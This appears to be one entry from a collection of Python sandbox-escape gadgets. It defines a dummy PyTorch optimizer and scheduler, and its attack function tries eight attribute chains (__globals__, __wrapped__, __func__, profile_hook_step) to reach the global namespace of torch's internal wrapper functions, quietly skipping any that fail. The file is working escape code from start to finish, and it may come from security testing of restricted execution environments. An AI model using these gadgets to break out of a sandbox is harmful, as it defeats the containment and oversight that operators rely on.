"""Class: module gadget. Source: own find. Escape: torch wraps the step of each optimizer's class, and
schedulers that of the object, in functions of its own, whose globals are torch's."""

import torch


class Own(torch.optim.Optimizer):
    def __init__(self, params):
        super().__init__(params, {"lr": 0.1})

    def step(self, closure=None):
        return None


def walk(value, *names):
    for name in names:
        value = getattr(value, name)
    return value


def attack(model, tokenizer, address):
    found = []
    optimizer = Own([torch.nn.Parameter(torch.zeros(1))])
    torch.optim.lr_scheduler.StepLR(optimizer, 1)
    for read in (
        lambda: walk(Own.step, "__globals__"),
        lambda: walk(optimizer.step, "__globals__"),
        lambda: walk(optimizer.step, "__wrapped__", "__globals__"),
        lambda: walk(vars(optimizer)["step"], "__globals__"),
        lambda: walk(super(Own, optimizer).step, "__func__", "__globals__"),
        lambda: walk(super(Own, optimizer).profile_hook_step(Own.step), "__globals__"),
        lambda: walk(super(Own, optimizer), "__init__", "__func__", "__globals__"),
        lambda: walk(optimizer.zero_grad, "__func__", "__globals__"),
    ):
        try:
            found.append(read())
        except Exception:
            continue
    return found
